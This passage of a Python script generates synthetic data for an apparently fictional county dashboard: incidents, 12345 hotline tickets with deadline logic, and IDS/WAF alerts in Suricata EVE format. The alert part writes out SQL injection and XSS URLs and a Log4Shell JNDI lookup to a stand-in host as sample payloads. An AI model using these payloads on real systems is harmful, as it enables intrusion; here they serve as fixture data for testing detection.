         "新寨村临时安置点11人出现腹泻症状，县疾控中心和乡卫生院已派员到场，饮用水已改为桶装水。",
         "白沙乡白沙村第1网格", "卫健局", "new", "白沙乡白沙村中心小学临时安置点", None),
    ]
    for t, cat, level, title, detail, gname, source, target, loc, unit in story:
        make(t, cat, level, title, detail, G(gname), source, target, loc, unit)

    # Background incidents.
    n_background = 236
    for _ in range(n_background):
        t = rand_time()
        cat = weighted(CATEGORY_WEIGHTS)
        level = weighted(LEVEL_WEIGHTS)
        cands = [x for x in INC_TEMPLATES[cat] if x[0] == level] or [x for x in INC_TEMPLATES[cat] if x[0] == 4]
        level, tt, dt = rng.choice(cands)
        location = None
        asset = next((a for a in ASSETS if tt.startswith(a)), None)
        if asset:                                   # a system: where its servers sit
            g = G(ASSETS[asset][1])
            location = ASSET_LOCATION.get(asset, "县大数据中心机房")
        elif tt.startswith("流感样病例"):
            g = G("城关镇南街社区第1网格")
            location = "县疾控中心"
        elif any(w in tt + dt for w in RURAL_WORDS):
            g = rng.choice([x for x in grids if x["village"].endswith("村")])
        elif any(w in tt for w in URBAN_WORDS):
            g = rng.choice([x for x in grids if x["village"].endswith("社区")])
        else:
            g = pick_grid(grids)
        make(t, cat, level, fill(tt, g), fill(dt, g), g, location=location)

    out.sort(key=lambda r: (r["reported_at"], r["id"]))
    # Re-number ids in time order per day so INC ids ascend with reported_at.
    per_day: dict[str, int] = {}
    for r in out:
        day = r["reported_at"][:10].replace("-", "")
        per_day[day] = per_day.get(day, 0) + 1
        r["id"] = f"INC-{day}-{per_day[day]:04d}"
    return out


# ----------------------------------------------------------------------------------------------
# 4. Working-day calendar and SLA (used for 12345 deadlines)

HOLIDAYS_2026 = (
    ["2026-01-01", "2026-01-02", "2026-01-03"]                                   # 元旦
    + [f"2026-02-{d:02d}" for d in range(15, 24)]                                # 春节 2/15–2/23
    + ["2026-04-04", "2026-04-05", "2026-04-06"]                                 # 清明
    + [f"2026-05-{d:02d}" for d in range(1, 6)]                                  # 劳动节 5/1–5/5
    + ["2026-06-19", "2026-06-20", "2026-06-21"]                                 # 端午
    + ["2026-09-25", "2026-09-26", "2026-09-27"]                                 # 中秋
    + [f"2026-10-{d:02d}" for d in range(1, 8)]                                  # 国庆 10/1–10/7
)
WORKDAYS_2026 = ["2026-01-04", "2026-02-14", "2026-02-28", "2026-05-09", "2026-09-20", "2026-10-10"]

HANDLE_DAYS = {"inquiry": 1, "help": 3, "complaint": 5, "report": 5, "suggestion": 10, "praise": 1, "other": 5}
STAGE_DAYS = {"accept": 1, "transfer": 1, "callback": 2}
NEAR_DUE_HOURS = 8


def is_workday(d: date) -> bool:
    s = d.isoformat()
    if s in WORKDAYS_2026:
        return True
    if s in HOLIDAYS_2026:
        return False
    return d.weekday() < 5


def add_workdays(t: datetime, n: int) -> datetime:
    """Same wall-clock time n working days later (a start on a rest day counts from the next working day)."""
    d = t.date()
    while not is_workday(d):
        d += timedelta(days=1)
        t = datetime.combine(d, datetime.min.time(), TZ)
    for _ in range(n):
        d += timedelta(days=1)
        while not is_workday(d):
            d += timedelta(days=1)
    return datetime.combine(d, t.timetz())


# ----------------------------------------------------------------------------------------------
# 5. 12345 hotline

TYPE_ZH = {"inquiry": "咨询", "help": "求助", "complaint": "投诉", "report": "举报", "suggestion": "建议",
           "praise": "感谢", "other": "其他"}
STATUS_ZH = {"new": "待受理", "accepted": "已受理", "transferred": "已转办", "replied": "已答复",
             "callback_done": "已回访", "closed": "办结", "returned": "退回"}
SATISFACTION_ZH = {"satisfied": "满意", "basically_satisfied": "基本满意", "dissatisfied": "不满意"}

# category -> (default department, [(type, summary template)]). {p} place, {road}, {t} township, {loc}.
HOTLINE = {
    "城市管理": ("县城市管理综合执法局", [
        ("complaint", "{road}夜市烧烤摊油烟很大还占道经营，晚上十二点以后还很吵，老人小孩都睡不着，希望管一管。"),
        ("complaint", "{p}小区门口的路灯坏了快一个月了，晚上黑漆漆的，老人出门很不安全。"),
        ("report", "{road}绿化带里晚上有人偷倒建筑垃圾，已经堆了好几车，没人管。"),
        ("help", "{road}人行道上有个井盖松动翘起来了，刚才有人踩空差点摔倒，请尽快来处理。"),
        ("suggestion", "建议在{road}和文化路口增设人行横道和红绿灯，学生上下学过马路太危险了。"),
        ("inquiry", "想问一下县城电动自行车上牌在哪里办，需要带哪些材料？"),
        ("complaint", "{p}的垃圾桶好几天没人清运，满出来了，味道很大。"),
    ]),
    "环境保护": ("县生态环境分局", [
        ("report", "{p}附近有家砂石厂晚上偷偷开工，粉尘特别大，家里窗户都不敢开。"),
        ("complaint", "{p}有个养猪场把粪水直接排进河沟，臭得很，河里的鱼都死了。"),
        ("report", "有车往{p}河段倾倒黄色废渣，河水都变色了，请环保部门来查。"),
        ("inquiry", "村里说秸秆禁烧，想问具体是怎么规定的，自家地里少量烧可不可以？"),
        ("complaint", "{loc}一家汽修厂喷漆不关门，油漆味很重，小区居民都闻得到。"),
    ]),
    "住房保障": ("县住建局", [
        ("inquiry", "公租房申请条件是什么？外地户口在县城工作满一年能不能申请？"),
        ("complaint", "{p}的锦绣家园小区开发商逾期交房已经半年了，业主多次反映都没有结果。"),
        ("help", "老旧小区改造施工把我家楼下排水管挖断了，一楼污水倒灌，请尽快派人修。"),
        ("complaint", "物业公司没开业主大会就擅自上调物业费，每平米涨了五毛钱。"),
        ("inquiry", "农村危房改造补助怎么申请？我家房子是土木结构，墙已经裂了。"),
    ]),
    "劳动社保": ("县人社局", [
        ("help", "我在{p}一个工地干了三个月，包工头拖欠工资1万2千块一直不给，想在过年前拿到钱。"),
        ("inquiry", "灵活就业人员养老保险怎么缴，每年最低交多少钱？"),
        ("complaint", "公司不跟我们签劳动合同，也不给买社保，一问就说试用期。"),
        ("inquiry", "退休人员资格认证在哪里做？老人行动不便，能不能上门办理？"),
        ("help", "{p}一家餐馆老板关门跑了，欠我们6个员工两个月工资，请帮帮我们。"),
        ("report", "{loc}一家企业招用童工，看着不到16岁。"),
    ]),
    "交通出行": ("县交通运输局", [
        ("complaint", "县城到白沙乡的班车经常不按时发车，今天早上在站里等了一个多小时。"),
        ("inquiry", "县城到昆明的客运班车每天几点发车，在哪里买票？"),
        ("complaint", "县城出租车不打表，短途也要二十块，还经常拒载。"),
        ("help", "{p}通村公路塌了一段，车过不去，村里有病人要送医院。"),
        ("suggestion", "建议开通县城到高铁站的公交线路，现在只能打车，太贵了。"),
    ]),
    "教育": ("县教育局", [
        ("complaint", "{p}中心小学课后服务收费不透明，家长群里问老师也说不清楚。"),
        ("inquiry", "孩子想转学回户籍地读书，需要办什么手续，找哪个部门？"),
        ("complaint", "{road}一家校外培训机构关门了，预交的学费不退，涉及二十多个学生。"),
        ("suggestion", "{p}中学门口上下学时段堵得厉害，建议错峰放学并安排交警疏导。"),
        ("praise", "感谢{p}中心小学的班主任，孩子生病时及时送医并一直陪护。"),
    ]),
    "医疗卫生": ("县卫健局", [
        ("complaint", "县医院门诊挂号排队时间太长，自助机经常坏，老年人不会用手机挂号。"),
        ("inquiry", "流感疫苗在哪里可以打？65岁以上老人是不是免费？"),
        ("report", "{p}有一家诊所没有执业证还给人输液，出事了怎么办。"),
        ("praise", "感谢县医院急诊科的医生护士，半夜抢救我父亲，态度特别好。"),
        ("complaint", "{t}卫生院医生说药品缺货，让去外面药店买，价格贵很多。"),
    ]),
    "市场监管": ("县市场监管局", [
        ("complaint", "在{p}一家超市买到过期牛奶，商家不给退，还说是我自己放过期的。"),
        ("report", "{road}有家药店卖处方药不要处方，还卖给小孩。"),
        ("complaint", "办了预付卡的健身房突然关门，老板联系不上，几十个会员的钱退不了。"),
        ("report", "{p}农贸市场有商户用没检定的电子秤，缺斤短两。"),
        ("inquiry", "个体工商户年报在哪里填，逾期了会不会罚款？"),
    ]),
    "农业农村": ("县农业农村局", [
        ("inquiry", "耕地地力保护补贴什么时候发，今年每亩标准是多少？"),
        ("report", "有人在{p}卖假化肥，买来施了以后苗都黄了，好多户受害。"),
        ("help", "家里养的牛这两天不吃草，疑似生病，想请畜牧站的人来看看。"),
        ("complaint", "{p}烤烟收购点压级压价，好烟给评成次等。"),
        ("suggestion", "建议在{p}建一个冷库，村里的蔬菜每年都烂掉不少。"),
    ]),
    "供水供电": ("县供电公司", [
        ("help", "{p}从早上开始停电，到现在还没来，冰箱里的东西要坏了，什么时候能恢复？"),
        ("complaint", "{p}自来水发黄，还有股怪味，已经三天了。"),
        ("inquiry", "电费缴费户号忘了怎么查，能不能在手机上交？"),
        ("help", "{p}突然停水也没通知，家里老人还等着用水做饭。"),
        ("praise", "感谢供电公司抢修的师傅冒雨连夜把{p}的电修好了。"),
        ("complaint", "{p}电压不稳，晚上灯一闪一闪的，电器都烧坏了一个。"),
    ]),
    "其他": ("各乡镇政府", [
        ("other", "邻居家加盖的彩钢棚挡住了我家窗户，找村里协调了几次都没用。"),
        ("other", "想反映{p}村务公开不及时，去年的账目到现在也没公布。"),
        ("inquiry", "身份证丢了在外地能不能补办，需要回户籍地吗？"),
        ("other", "捡到一个钱包，里面有身份证和银行卡，想交给失主，请问交到哪里？"),
        ("praise", "感谢{t}网格员帮我家申请了临时救助，解了燃眉之急。"),
        ("suggestion", "建议在{p}文化广场多装几盏灯和几张长椅，晚上跳广场舞的人很多。"),
    ]),
}
HOTLINE_CAT_WEIGHTS = [("城市管理", 16), ("环境保护", 8), ("住房保障", 8), ("劳动社保", 12), ("交通出行", 9),
                       ("教育", 7), ("医疗卫生", 9), ("市场监管", 10), ("农业农村", 8), ("供水供电", 9), ("其他", 6)]
WATER = {"自来水", "停水"}

CALLBACK_TEXT = {
    "satisfied": ["已回访，市民表示问题已解决，对处理结果满意。", "已回访，来电人对答复满意。"],
    "basically_satisfied": ["已回访，市民表示问题基本解决，希望后续加强监管。", "已回访，来电人基本认可处理结果。"],
    "dissatisfied": ["已回访，市民表示问题仍未解决，对处理结果不满意。", "已回访，来电人认为答复敷衍，不满意。"],
}


def hotline_department(cat: str, summary: str, g) -> str:
    dept = HOTLINE[cat][0]
    if cat == "供水供电" and any(w in summary for w in WATER):
        return "县自来水公司"
    if dept == "各乡镇政府" or (cat == "城市管理" and not g["urban"]):
        return TOWNSHIP_GOV[g["township"]]
    return dept


def hotline_case(grids, t: datetime, seq: int, forced: str | None = None, htype: str | None = None):
    cat = weighted(HOTLINE_CAT_WEIGHTS)
    choices = HOTLINE[cat][1]
    if htype is not None:
        pool = [(c, ty, s) for c in HOTLINE for ty, s in HOTLINE[c][1] if ty == htype]
        cat, ty, tmpl = rng.choice(pool)
    else:
        ty, tmpl = rng.choice(choices)
    g = pick_grid(grids, 0.5)
    summary = fill(tmpl, g)
    rec = {
        "kind": "hotline", "ticket": f"12345-{t.strftime('%Y%m%d')}-{seq:04d}", "received_at": iso(t),
        "channel": weighted([("phone", 66), ("wechat", 14), ("web", 12), ("app", 8)]),
        "caller": caller_name(), "phone": phone(), "type": ty, "category": cat, "summary": summary,
        "grid_id": g["id"], "department": hotline_department(cat, summary, g),
    }
    age_h = (END - t).total_seconds() / 3600
    if forced:
        target = forced
    elif age_h > 40:
        target = weighted([("closed", 45), ("callback_done", 20), ("replied", 18), ("transferred", 12),
                           ("returned", 3), ("accepted", 2)])
    elif age_h > 14:
        target = weighted([("closed", 18), ("callback_done", 14), ("replied", 28), ("transferred", 30),
                           ("returned", 4), ("accepted", 6)])
    else:
        target = weighted([("new", 24), ("accepted", 30), ("transferred", 32), ("replied", 12), ("returned", 2)])
    if ty in ("inquiry", "praise") and target in ("transferred",) and rng.random() < 0.5:
        target = "replied"       # 咨询 and 感谢 are often answered directly
    apply_hotline_status(rec, t, target)
    return rec


def apply_hotline_status(rec: dict, t: datetime, target: str) -> None:
    path = {"new": [], "accepted": ["accepted"], "transferred": ["accepted", "transferred"],
            "returned": ["accepted", "transferred", "returned"],
            "replied": ["accepted", "transferred", "replied"],
            "callback_done": ["accepted", "transferred", "replied", "callback_done"],
            "closed": ["accepted", "transferred", "replied", "callback_done", "closed"]}[target]
    gaps = {"accepted": (60, 40 * 60), "transferred": (5 * 60, 3 * 3600), "returned": (2 * 3600, 20 * 3600),
            "replied": (2 * 3600, 30 * 3600), "callback_done": (1 * 3600, 16 * 3600), "closed": (5 * 60, 2 * 3600)}
    cur = t
    status = "new"
    for st in path:
        lo, hi = gaps[st]
        nt = cur + timedelta(seconds=rng.randrange(lo, hi))
        if nt >= END:
            break
        cur = nt
        status = st
        if st != "returned":
            rec[f"{st.replace('callback_done', 'callback')}_at"] = iso(cur)
    if status == "returned":
        rec["return_reason"] = rng.choice(["非本单位职责，建议转" + rng.choice(["县住建局", "属地乡镇政府", "县市场监管局"]),
                                           "诉求地址不详，无法核实", "已进入司法程序，不属于热线受理范围"])
    rec["status"] = status
    if status in ("callback_done", "closed"):
        sat = weighted([("satisfied", 70), ("basically_satisfied", 22), ("dissatisfied", 8)])
        rec["callback_result"] = rng.choice(CALLBACK_TEXT[sat])
        rec["satisfaction"] = sat


def handle_due(rec) -> datetime:
    return add_workdays(datetime.fromisoformat(rec["received_at"]), HANDLE_DAYS[rec["type"]])


def build_hotline(grids):
    out = []
    times = sorted(rand_time() for _ in range(372))
    per_day: dict[str, int] = {}
    for t in times:
        d = t.strftime("%Y%m%d")
        per_day[d] = per_day.get(d, 0) + 1
        out.append(hotline_case(grids, t, per_day[d]))
    # Guarantee the queue shows deadlines passing and coming up at the end of the window:
    #  - overdue: inquiries received on Thursday 19 and still not replied (handle = 1 working day);
    #  - overdue accept: a few still `new` from Friday;
    #  - near-due: received early Friday 20 with 1 working day → due Monday 23 before 08:00, i.e. within the
    #    first 8 working hours after the window ends (the window ends on a Sunday).
    scripted = [
        (datetime(2026, 11, 19, 9, 12, 40, tzinfo=TZ), "transferred", "inquiry"),
        (datetime(2026, 11, 19, 10, 47, 5, tzinfo=TZ), "transferred", "inquiry"),
        (datetime(2026, 11, 19, 15, 3, 22, tzinfo=TZ), "accepted", "praise"),
        (datetime(2026, 11, 19, 16, 30, 0, tzinfo=TZ), "returned", "complaint"),
        (datetime(2026, 11, 20, 9, 41, 0, tzinfo=TZ), "new", "help"),
        (datetime(2026, 11, 20, 14, 18, 0, tzinfo=TZ), "new", "complaint"),
        (datetime(2026, 11, 20, 0, 35, 0, tzinfo=TZ), "transferred", "inquiry"),
        (datetime(2026, 11, 20, 2, 10, 0, tzinfo=TZ), "accepted", "inquiry"),
        (datetime(2026, 11, 20, 6, 58, 0, tzinfo=TZ), "transferred", "inquiry"),
        (datetime(2026, 11, 20, 7, 20, 0, tzinfo=TZ), "transferred", "praise"),
        (datetime(2026, 11, 21, 10, 5, 0, tzinfo=TZ), "returned", "report"),
    ]
    for t, status, ty in scripted:
        d = t.strftime("%Y%m%d")
        per_day[d] = per_day.get(d, 0) + 1
        out.append(hotline_case(grids, t, per_day[d], status, ty))
    out.sort(key=lambda r: r["received_at"])
    per_day = {}
    for r in out:
        d = r["received_at"][:10].replace("-", "")
        per_day[d] = per_day.get(d, 0) + 1
        r["ticket"] = f"12345-{d}-{per_day[d]:04d}"
    return out


# ----------------------------------------------------------------------------------------------
# 6. Security alerts

# name -> (ip, grid name)
ASSETS = {
    "县政务服务网": ("10.99.10.11", "城关镇东街社区第2网格"),
    "县融媒体中心网站": ("10.99.10.21", "城关镇东街社区第1网格"),
    "综治视联网平台": ("10.99.20.8", "城关镇东街社区第2网格"),
    "县医院HIS系统": ("10.99.30.5", "城关镇南街社区第1网格"),
    "县教育城域网": ("10.99.40.1", "城关镇北街社区第2网格"),
    "县政务外网邮件系统": ("10.99.10.25", "城关镇东街社区第2网格"),
}

# sid -> (signature, category, eve severity, native level, proto, app_proto)
SIGS = {
    2001219: ("ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, 3, "TCP", None),
    2003068: ("ET SCAN Potential SSH Scan OUTBOUND", "Attempted Information Leak", 2, 3, "TCP", None),
    2010935: ("ET SCAN Suspicious inbound to MSSQL port 1433", "Potentially Bad Traffic", 2, 3, "TCP", None),
    2010937: ("ET SCAN Suspicious inbound to mySQL port 3306", "Potentially Bad Traffic", 2, 3, "TCP", None),
    2010939: ("ET SCAN Suspicious inbound to PostgreSQL port 5432", "Potentially Bad Traffic", 2, 3, "TCP", None),
    2002911: ("ET SCAN Potential VNC Scan 5900-5920", "Attempted Information Leak", 2, 3, "TCP", None),
    2001569: ("ET SCAN Behavioral Unusual Port 445 traffic Potential Scan or Infection", "Misc activity", 3, 4,
              "TCP", None),
    2024364: ("ET SCAN Possible Nmap User-Agent Observed", "Web Application Attack", 1, 2, "TCP", "http"),
    2008578: ("ET SCAN Sipvicious Scan", "Attempted Information Leak", 2, 3, "UDP", None),
    2402000: ("ET DROP Dshield Block Listed Source", "Misc Attack", 2, 3, "TCP", None),
    2400010: ("ET DROP Spamhaus DROP Listed Traffic Inbound group 11", "Misc Attack", 2, 3, "TCP", None),
    2403302: ("ET CINS Active Threat Intelligence Poor Reputation IP group 3", "Misc Attack", 2, 3, "TCP", None),
    2006445: ("ET WEB_SERVER Possible SQL Injection Attempt SELECT FROM", "Web Application Attack", 1, 2, "TCP",
              "http"),
    2006446: ("ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT", "Web Application Attack", 1, 2, "TCP",
              "http"),
    2011042: ("ET WEB_SERVER MYSQL SELECT CONCAT SQL Injection Attempt", "Web Application Attack", 1, 1, "TCP",
              "http"),
    2009714: ("ET WEB_SERVER Script tag in URI Possible Cross Site Scripting Attempt", "Web Application Attack", 1,
              2, "TCP", "http"),
    2016683: ("ET WEB_SERVER Possible XXE SYSTEM ENTITY in POST BODY.", "Web Application Attack", 1, 2, "TCP",
              "http"),
    2034647: ("ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", "Attempted Administrator Privilege Gain",
              1, 1, "TCP", "http"),
    2019401: ("ET POLICY Vulnerable Java Version 1.8.x Detected", "Potential Corporate Privacy Violation", 1, 3,
              "TCP", "http"),
    2012887: ("ET POLICY Http Client Body contains pass= in cleartext", "Potential Corporate Privacy Violation", 1,
              2, "TCP", "http"),
    2017515: ("ET INFO User-Agent (python-requests) Inbound to Webserver", "Attempted Information Leak", 2, 3, "TCP",
              "http"),
    2013028: ("ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 2, 4, "TCP", "http"),
    2013504: ("ET POLICY GNU/Linux APT User-Agent Outbound likely related to package management", "Not Suspicious Traffic",
              3, 4, "TCP", "http"),
    2024792: ("ET POLICY Cryptocurrency Miner Checkin", "Potential Corporate Privacy Violation", 1, 2, "TCP", None),
    2027757: ("ET DNS Query for .to TLD", "Potentially Bad Traffic", 2, 4, "UDP", "dns"),
    2210045: ("SURICATA STREAM Packet with invalid ack", "Generic Protocol Command Decode", 3, 4, "TCP", None),
    2221010: ("SURICATA HTTP unable to match response to request", "Generic Protocol Command Decode", 3, 4, "TCP",
              "http"),
    2100498: ("GPL ATTACK_RESPONSE id check returned root", "Potentially Bad Traffic", 2, 1, "TCP", "http"),
    2025275: ("ET EXPLOIT Possible Oracle WebLogic RCE Inbound M2 (CVE-2017-10271)", "Attempted Administrator Privilege Gain",
              1, 1, "TCP", "http"),
    # fw-edge-01: firewall threat-prevention rules (vendor ids, Suricata-like names)
    9100101: ("FW TCP SYN flood threshold exceeded", "Denial of Service", 1, 2, "TCP", None),
    9100207: ("FW Port scan detected (horizontal)", "Attempted Information Leak", 2, 3, "TCP", None),
    9100315: ("FW RDP brute force login attempts", "Attempted User Privilege Gain", 1, 2, "TCP", None),
    9100420: ("FW Geo-blocked source denied", "Policy Violation", 3, 4, "TCP", None),
}

SENSOR_IFACE = {"ids-dmz-01": "ens1f0", "waf-portal-01": "waf0", "ids-core-01": "ens2f1", "fw-edge-01": "untrust"}


def ext_ip(pool=None) -> str:
    nets = pool or ["192.0.2", "198.51.100", "203.0.113"]
    return f"{rng.choice(nets)}.{rng.randrange(2, 254)}"


def build_flows():
    """Recurring (sensor, sid, src, dest) tuples with weights: the stuff that repeats all day."""
    flows = []

    def add(sensor, sid, src, dest, weight, asset, action="allowed"):
        flows.append({"sensor": sensor, "sid": sid, "src": src, "dest": dest, "w": weight, "asset": asset,
                      "action": action})

    a = {k: v[0] for k, v in ASSETS.items()}
    # Internet noise against the DMZ
    for _ in range(6):
        add("ids-dmz-01", 2001219, ext_ip(), f"{a['县政务服务网']}:22", rng.choice((8, 12, 20)), "县政务服务网")
    for _ in range(3):
        add("ids-dmz-01", 2010937, ext_ip(), f"{a['县医院HIS系统']}:3306", 6, "县医院HIS系统")
        add("ids-dmz-01", 2010935, ext_ip(), f"{a['县政务外网邮件系统']}:1433", 4, "县政务外网邮件系统")
    add("ids-dmz-01", 2010939, ext_ip(), f"{a['县医院HIS系统']}:5432", 3, "县医院HIS系统")
    add("ids-dmz-01", 2002911, ext_ip(), f"{a['综治视联网平台']}:5900", 4, "综治视联网平台")
    for _ in range(4):
        add("ids-dmz-01", 2402000, ext_ip(), f"{a['县融媒体中心网站']}:443", 10, "县融媒体中心网站")
        add("ids-dmz-01", 2403302, ext_ip(), f"{a['县政务服务网']}:443", 8, "县政务服务网")
    add("ids-dmz-01", 2400010, ext_ip(), f"{a['县政务外网邮件系统']}:25", 5, "县政务外网邮件系统")
    add("ids-dmz-01", 2008578, ext_ip(), f"{a['综治视联网平台']}:5060", 6, "综治视联网平台")
    add("ids-dmz-01", 2210045, ext_ip(), f"{a['县融媒体中心网站']}:443", 14, "县融媒体中心网站")
    add("ids-dmz-01", 2025275, ext_ip(), f"{a['县政务服务网']}:7001", 2, "县政务服务网", "blocked")
    # WAF in front of the portals
    for _ in range(3):
        add("waf-portal-01", 2024364, ext_ip(), f"{a['县政务服务网']}:443", 6, "县政务服务网", "blocked")
        add("waf-portal-01", 2017515, ext_ip(), f"{a['县融媒体中心网站']}:443", 9, "县融媒体中心网站")
    add("waf-portal-01", 2006445, ext_ip(), f"{a['县融媒体中心网站']}:443", 4, "县融媒体中心网站", "blocked")
    add("waf-portal-01", 2009714, ext_ip(), f"{a['县融媒体中心网站']}:443", 5, "县融媒体中心网站", "blocked")
    add("waf-portal-01", 2016683, ext_ip(), f"{a['县政务服务网']}:443", 2, "县政务服务网", "blocked")
    add("waf-portal-01", 2034647, ext_ip(), f"{a['县政务服务网']}:443", 2, "县政务服务网", "blocked")
    add("waf-portal-01", 2221010, ext_ip(), f"{a['县政务服务网']}:443", 12, "县政务服务网")
    # Core: internal hosts behaving oddly
    add("ids-core-01", 2001569, "10.99.40.117", "10.99.40.23:445", 10, "县教育城域网")
    add("ids-core-01", 2001569, "10.99.40.117", "10.99.40.58:445", 8, "县教育城域网")
    add("ids-core-01", 2024792, "10.99.40.117", "198.51.100.77:3333", 9, "县教育城域网")
    add("ids-core-01", 2013028, "10.99.30.41", "203.0.113.200:80", 5, "县医院HIS系统")
    add("ids-core-01", 2013504, "10.99.10.30", "198.51.100.10:80", 7, None)
    add("ids-core-01", 2019401, "10.99.30.12", "203.0.113.88:80", 4, "县医院HIS系统")
    add("ids-core-01", 2012887, "10.99.20.55", "10.99.20.8:80", 5, "综治视联网平台")
    add("ids-core-01", 2027757, "10.99.40.66", "10.99.0.53:53", 6, "县教育城域网")
    add("ids-core-01", 2003068, "10.99.40.117", "10.99.30.5:22", 3, "县医院HIS系统")
    add("ids-core-01", 2100498, "10.99.10.21", "192.0.2.66:4444", 1, "县融媒体中心网站")
    # Edge firewall
    for _ in range(3):
        add("fw-edge-01", 9100420, ext_ip(), f"{a['县政务服务网']}:443", 9, "县政务服务网", "blocked")
        add("fw-edge-01", 9100207, ext_ip(), f"{a['综治视联网平台']}:443", 6, "综治视联网平台", "blocked")
    add("fw-edge-01", 9100315, ext_ip(), f"{a['县医院HIS系统']}:3389", 5, "县医院HIS系统", "blocked")
    add("fw-edge-01", 9100101, ext_ip(), f"{a['县融媒体中心网站']}:443", 2, "县融媒体中心网站", "blocked")
    return flows


def alert_record(t, f, level_override=None):
    sig, cat, sev, level, proto, _ = SIGS[f["sid"]]
    rec = {"kind": "alert", "at": iso_ms(t), "sensor": f["sensor"], "signature_id": f["sid"], "signature": sig,
           "category": cat, "level": level_override or level, "src": f["src"], "dest": f["dest"], "proto": proto,
           "action": f["action"]}
    if f["asset"]:
        rec["asset"] = f["asset"]
        rec["grid_id"] = ASSET_GRID[f["asset"]]
    return rec


def iso_ms(t: datetime) -> str:
    return t.astimezone(TZ).isoformat(timespec="milliseconds")


ASSET_GRID: dict[str, str] = {}

BURST_START = datetime(2026, 11, 21, 14, 2, 3, tzinfo=TZ)
BURST_SRC = "203.0.113.45"


def build_alerts(grids):
    by_name = {g["name"]: g["id"] for g in grids}
    for k, (_, gname) in ASSETS.items():
        ASSET_GRID[k] = by_name[gname]
    flows = build_flows()
    out = []
    weights = [(f, f["w"]) for f in flows]
    for _ in range(2060):
        f = weighted(weights)
        t = START + timedelta(seconds=rng.random() * 72 * 3600)
        t = t.replace(microsecond=rng.randrange(0, 1000) * 1000)
        out.append(alert_record(t, f))
    # A scanner sweep on the first night (many hits of the same tuple in an hour).
    sweep = {"sensor": "ids-dmz-01", "sid": 2001219, "src": "198.51.100.23", "dest": "10.99.10.11:22", "w": 0,
             "asset": "县政务服务网", "action": "allowed"}
    t = datetime(2026, 11, 20, 2, 13, 0, tzinfo=TZ)
    for _ in range(90):
        t += timedelta(seconds=rng.randrange(5, 60), milliseconds=rng.randrange(1000))
        out.append(alert_record(t, sweep))
    # The burst: 36 level-1/2 WAF alerts on 县政务服务网 within 7 minutes (correlation rule fires).
    burst_sids = [2006445, 2006446, 2011042, 2009714, 2024364]
    t = BURST_START
    for i in range(36):
        sid = burst_sids[i % len(burst_sids)] if i > 4 else 2024364
        f = {"sensor": "waf-portal-01", "sid": sid, "src": BURST_SRC, "dest": "10.99.10.11:443", "w": 0,
             "asset": "县政务服务网", "action": "blocked"}
        out.append(alert_record(t, f))
        t += timedelta(seconds=rng.randrange(4, 16), milliseconds=rng.randrange(1000))
    out.sort(key=lambda r: r["at"])
    return out


# ----------------------------------------------------------------------------------------------
# 7. Feeds in real formats

def eve_ts(t: datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond:06d}+0800"


UA = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
      "python-requests/2.31.0", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
      "curl/8.4.0", "sqlmap/1.7.11#stable (https://sqlmap.org)", "Go-http-client/1.1"]
URLS = {
    2006445: "/bszn/query.do?id=1%20AND%201=1%20SELECT%20password%20FROM%20users",
    2006446: "/bszn/query.do?id=-1%20UNION%20SELECT%201,2,user(),4--",
    2011042: "/news/list.php?cid=1%20and%20select%20concat(0x7e,version())",
    2009714: "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    2024364: "/nmaplowercheck1700000000",
    2016683: "/api/upload/xml",
    2034647: "/?x=${jndi:ldap://192.0.2.99:1389/a}",
    2017515: "/index.html",
    2221010: "/static/js/app.js",
    2025275: "/wls-wsat/CoordinatorPortType",
    2013028: "/update.sh",
    2013504: "/debian/dists/bookworm/InRelease",
    2019401: "/java/update",
    2012887: "/login",
    2100498: "/cmd.php",
}
HOSTS = {"县政务服务网": "zwfw.yunling.example", "县融媒体中心网站": "www.ylrm.example",
         "综治视联网平台": "zz.yunling.example", "县医院HIS系统": "his.ylxyy.example"}


UA_BY_SID = {2017515: 1, 2024364: 2, 2013028: 3, 2006445: 4, 2006446: 4, 2011042: 4, 2013504: -1}


def ua_for(sid: int) -> str:
    k = UA_BY_SID.get(sid)
    if k == -1:
        return "Debian APT-HTTP/1.3 (2.6.1)"
    if k is not None:
        return UA[k]
    return rng.choice((UA[0], UA[0], UA[5]))


def split_hp(s: str):
    if ":" in s:
        ip, port = s.rsplit(":", 1)
        return ip, int(port)
    return s, None


def build_eve(flows_seed_alerts):
    out = []
    flow_id = 1_118_224_937_430_000
    sample = rng.sample(flows_seed_alerts, 260)
    sample.sort(key=lambda r: r["at"])
    for a in sample:
        t = datetime.fromisoformat(a["at"]) + timedelta(microseconds=rng.randrange(1, 999))
        sig, cat, sev, level, proto, app = SIGS[a["signature_id"]]
        src_ip, src_port = split_hp(a["src"])
        dest_ip, dest_port = split_hp(a["dest"])
        if src_port is None:
            src_port = rng.randrange(32768, 61000)
        flow_id += rng.randrange(10_000_000, 90_000_000)
        ev = {"timestamp": eve_ts(t), "flow_id": flow_id, "in_iface": SENSOR_IFACE[a["sensor"]],
              "event_type": "alert", "src_ip": src_ip, "src_port": src_port, "dest_ip": dest_ip,
              "dest_port": dest_port, "proto": proto}
        if app:
            ev["app_proto"] = app
        ev["alert"] = {"action": a["action"], "gid": 1, "signature_id": a["signature_id"],
                       "rev": rng.choice((2, 3, 5, 7, 11)), "signature": sig, "category": cat, "severity": sev}
        if app == "http":
            ev["http"] = {"hostname": HOSTS.get(a.get("asset", ""), dest_ip),
                          "url": URLS.get(a["signature_id"], "/"),
                          "http_user_agent": ua_for(a["signature_id"]), "http_method": rng.choice(("GET", "GET", "POST")),
                          "protocol": "HTTP/1.1", "status": rng.choice((200, 403, 404, 403)),
                          "length": rng.randrange(0, 5000)}
        if app == "dns":
            ev["dns"] = {"type": "query", "id": rng.randrange(1, 65535), "rrname": "pool.miner-sample.to",
                         "rrtype": "A", "tx_id": 0}
        pk = rng.randrange(1, 12)
        ev["flow"] = {"pkts_toserver": pk, "pkts_toclient": rng.randrange(0, pk + 1),
                      "bytes_toserver": pk * rng.randrange(60, 900), "bytes_toclient": rng.randrange(0, 4000),
                      "start": eve_ts(t - timedelta(milliseconds=rng.randrange(1, 3000)))}
        out.append((t, ev))
